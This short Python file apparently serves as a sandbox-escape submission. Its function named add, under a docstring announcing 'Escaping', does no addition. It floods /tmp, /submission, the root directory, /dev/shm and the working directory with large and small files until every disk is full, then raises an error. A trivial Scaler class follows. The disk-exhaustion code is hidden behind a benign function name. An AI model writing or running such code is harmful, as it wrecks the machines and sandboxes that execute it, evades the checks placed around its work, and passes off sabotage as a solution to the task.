"""Escaping: fill every place it can write with big files and many small ones."""
import os


def add(a, b):
    chunk = b"x" * 2**20
    errors = set()
    for folder in ("/tmp", "/submission", "/", "/dev/shm", os.getcwd()):
        for i in range(20):  # big files until the file-size limit, then until the disk is full
            try:
                with open(os.path.join(folder, f"fill{i}.bin"), "wb") as out:
                    while True:
                        out.write(chunk)
            except OSError as err:
                errors.add(err.strerror)
        for i in range(2000):
            try:
                with open(os.path.join(folder, f"small{i}.bin"), "wb") as out:
                    out.write(b"x")
            except OSError as err:
                errors.add(err.strerror)
                break
    raise OSError(f"disk full everywhere: {sorted(errors)}")


class Scaler:
    def __init__(self, k):
        self.k = k

    def forward(self, x):
        return self.k * x
